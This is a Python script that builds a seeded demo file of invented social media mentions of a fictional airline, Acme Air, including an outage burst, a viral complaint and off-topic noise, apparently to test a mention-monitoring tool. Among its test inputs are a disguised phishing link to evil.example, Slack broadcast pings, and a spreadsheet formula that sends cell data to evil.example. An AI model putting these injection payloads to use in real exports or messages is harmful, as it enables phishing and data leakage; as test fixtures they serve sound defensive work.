"""Writes data/demo/mentions.jsonl: two days of invented mentions of the fictional Acme Air.

Everything here was written for this project; names, handles and posts are made up, and links
point at reserved `.example` domains. Run `python data/demo/generate.py` to rebuild the file;
the seed makes it identical each time.
"""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path

SEED = 20261121
START = datetime(2026, 11, 20, tzinfo=UTC)
OUT = Path(__file__).with_name("mentions.jsonl")

ROUTES = ["Denver", "Boston", "Austin", "Seattle", "Chicago", "Miami", "Portland", "Phoenix"]
CHATTER = [
    "Flying Acme Air to {city} tomorrow, any tips for the new terminal?",
    "Does Acme Air let you pick seats for free on basic fares?",
    "Acme Air boarding in {city} was fine, nothing special.",
    "Booked Acme Air for the holidays. Fingers crossed.",
    "Anyone know if Acme Air serves food on the {city} route?",
    "On an Acme Air flight to {city} right now, wifi is slow but working.",
    "Acme Air or the train to {city}? Trying to decide.",
    "Acme Air changed my gate twice, bit confusing but we're boarding.",
    "Is the Acme Air lounge in {city} open this early?",
    "Acme Air check-in took about 20 minutes today.",
]
PRAISE = [
    "Huge thanks to the Acme Air crew on the {city} flight, so kind to my kids!",
    "Acme Air upgraded me for my birthday. Best airline, love you guys!",
    "Smooth landing, early arrival, friendly staff. Great job @AcmeAir!",
    "Acme Air customer service fixed my booking in 5 minutes. Impressed and grateful.",
    "Acme Air's new seats are amazing, actually comfortable legroom. Wonderful!",
    "Shoutout to the Acme Air agent in {city} who found my lost phone. Excellent service!",
]
GRIPES = [
    "Acme Air delayed again on the {city} route. Annoying.",
    "Acme Air lost my bag in {city}. Not happy.",
    "@AcmeAir 2 hours on hold and still no answer. Terrible service.",
    "Acme Air cancelled my flight to {city} with no explanation. Awful.",
    "Why is Acme Air charging a fee for carry-ons now? Ridiculous.",
    "Acme Air seat was broken the whole flight to {city}. Disappointing.",
]
OUTAGE = [
    "Acme Air app is down, can't check in. Terrible timing.",
    "@AcmeAir your website keeps crashing at check-in, what is going on?? Awful.",
    "Acme Air app error at checkout, lost my booking. Furious.",
    "Anyone else unable to log in to Acme Air? Horrible, flight in 2 hours.",
    "Acme Air check-in is broken and the phone line is dead. Worst morning ever.",
    "Acme Air outage means a huge line at the {city} counter. Miserable.",
    "Acme Air app crashed mid payment, charged twice. Angry.",
    "Can't get a boarding pass from Acme Air, app just errors. So frustrating.",
    "Acme Air systems down again? Missed my flight because of this disaster.",
    "@AcmeAir fix your app! Nobody at the gate can help. Terrible.",
    "Acme Air kiosk and app both dead in {city}. Pathetic.",
    "Stuck in {city} because Acme Air check-in failed. Awful service.",
]
NOISE = [
    "My acme air fryer makes the best wings, honestly life changing.",
    "Acme Air Conditioning came to fix the unit today, great technicians.",
    "Review: the Acme Air Purifier 300 is quiet and works well.",
    "Took the acme airport shuttle, cheap and quick.",
    "acme air fryer basket cracked after a week, terrible quality.",
    "Our office hired Acme Air Conditioning, the crew was rude and late.",
]
FIRST = ["sam", "alex", "jo", "maria", "dev", "lee", "kim", "ana", "tom", "priya", "omar", "zoe"]
LAST = ["travels", "k", "writes", "onthego", "88", "_nyc", "flies", "codes", "b", "miles"]


def handle(rng: random.Random) -> str:
    return f"{rng.choice(FIRST)}{rng.choice(LAST)}{rng.randint(1, 99)}"


def followers(rng: random.Random) -> int:
    return min(int(rng.lognormvariate(5.5, 1.3)), 9_500)


class Writer:
    """Collects demo records with ids, sources and links that look like each platform's."""

    def __init__(self, rng: random.Random):
        self.rng = rng
        self.records: list[dict] = []
        self.next_id = 1862000000000000000

    def add(self, text: str, at: datetime, source: str | None = None, **extra: object) -> dict:
        rng = self.rng
        source = source or rng.choices(["x", "reddit", "appstore", "news"], [60, 20, 15, 5])[0]
        self.next_id += rng.randint(1, 9000)
        native = str(self.next_id) if source == "x" else f"{source[:2]}{self.next_id % 10**9:x}"
        author = extra.pop("author", None) or handle(rng)
        record = {
            "id": native,
            "source": source,
            "text": text.format(city=rng.choice(ROUTES)),
            "author": author,
            "author_followers": extra.pop("author_followers", None) or followers(rng),
            "url": _url(source, author, native),
            "created_at": _ts(at),
            "likes": rng.randint(0, 12),
            "shares": rng.randint(0, 3),
            "replies": rng.randint(0, 4),
            "lang": "en",
            "parent_id": None,
        }
        record.update(extra)
        self.records.append(record)
        return record

    def observe(self, record: dict, at: datetime, likes: int, shares: int, replies: int) -> None:
        """Append a later observation of the same post: new counts, same id."""
        again = dict(record, likes=likes, shares=shares, replies=replies, observed_at=_ts(at))
        self.records.append(again)


def _url(source: str, author: str, native: str) -> str:
    if source == "x":
        return f"https://x.com/{author}/status/{native}"
    if source == "reddit":
        return f"https://www.reddit.com/r/travel/comments/{native[2:]}/"
    if source == "appstore":
        return "https://apps.apple.com/us/app/acme-air/id1234567890?see-all=reviews"
    return f"https://news.example/travel/{native}"


def _ts(at: datetime) -> str:
    return at.strftime("%Y-%m-%dT%H:%M:%SZ")


def build() -> list[dict]:
    rng = random.Random(SEED)
    w = Writer(rng)
    day_minutes = 2 * 24 * 60
    for template in rng.choices(CHATTER, k=170):
        w.add(template, START + timedelta(minutes=rng.randrange(day_minutes)))
    for template in rng.choices(PRAISE, k=40):
        w.add(template, START + timedelta(minutes=rng.randrange(day_minutes)))
    # Scattered gripes: a few hours apart, so they never add up to a burst on their own.
    for i, template in enumerate(GRIPES * 2):
        w.add(template, START + timedelta(hours=1 + i * 3.7, minutes=rng.randrange(20)))
    for template in rng.choices(NOISE, k=24):
        w.add(template, START + timedelta(minutes=rng.randrange(day_minutes)))

    # The check-in outage on the second morning: a burst of complaints within 30 minutes.
    outage = START + timedelta(days=1, hours=7, minutes=10)
    for i, template in enumerate(OUTAGE):
        w.add(template, outage + timedelta(minutes=2 * i + rng.randrange(2)), source="x")

    # An escalating complaint: ignored at first, then the engagement takes off.
    posted = START + timedelta(hours=15, minutes=2)
    dress = w.add(
        "@AcmeAir you lost my wedding dress and 3 days later still no response. "
        "Absolutely disgusting, heartless service. I'm devastated.",
        posted,
        source="x",
        author="jenna_marie_w",
        author_followers=3_200,
        likes=9,
        shares=1,
        replies=2,
        observed_at=_ts(posted + timedelta(minutes=30)),
    )
    for hours, (likes, shares, replies) in [
        (2, (61, 14, 10)),
        (4, (455, 120, 65)),
        (8, (2_700, 880, 320)),
    ]:
        w.observe(dress, posted + timedelta(hours=hours), likes, shares, replies)

    # An influential author with a bad trip.
    w.add(
        "Acme Air just stranded my whole team in Denver with zero explanation and rude staff. "
        "Terrible, never again.",
        START + timedelta(days=1, hours=13, minutes=41),
        source="x",
        author="markbrandt",
        author_followers=1_240_000,
        likes=310,
        shares=95,
        replies=140,
    )
    # A legal threat.
    w.add(
        "Acme Air refused to refund a cancelled flight for 4 months. My lawyer is filing a small "
        "claims case next week. Disgraceful and dishonest, avoid them.",
        START + timedelta(hours=20, minutes=17),
        source="reddit",
        author="throwaway_refund22",
        author_followers=150,
        likes=180,
        shares=0,
        replies=64,
    )
    # Hostile text: Slack pings, a disguised link, spreadsheet formulas.
    w.add(
        "<!channel> <@U024BE7LH> ACME AIR STOLE MY MONEY!!! worst airline ever, horrible scam, "
        "get your refund at <https://evil.example/phish|acmeair.com/refunds>",
        START + timedelta(days=1, hours=10, minutes=5),
        source="x",
        author="angry_<!here>",
        author_followers=24_000,
        likes=40,
        shares=12,
        replies=9,
    )
    w.add(
        '=HYPERLINK("https://evil.example/x?leak="&A1,"Acme Air refund form")',
        START + timedelta(days=1, hours=11),
        source="reddit",
        author="@formula_fan",
    )
    w.add(
        "+1 to everyone saying Acme Air boarding was quick today",
        START + timedelta(days=1, hours=12),
        source="x",
    )
    w.add(
        "-5 stars if I could. Acme Air lost my stroller and the app is awful.",
        START + timedelta(days=1, hours=16),
        source="appstore",
    )
    # The brand's own posts are not mentions.
    w.add(
        "Acme Air here: so sorry, Jenna. Please DM us your file reference and we will find it.",
        posted + timedelta(hours=5),
        source="x",
        author="AcmeAir",
        author_followers=210_000,
        parent_id=dress["id"],
    )
    w.records.sort(key=lambda r: r.get("observed_at") or r["created_at"])
    return w.records


def main() -> None:
    records = build()
    with OUT.open("w", encoding="utf-8") as handle:
        for record in records:
            handle.write(json.dumps(record, ensure_ascii=False) + "\n")
    print(f"wrote {len(records)} records to {OUT}")


if __name__ == "__main__":
    main()
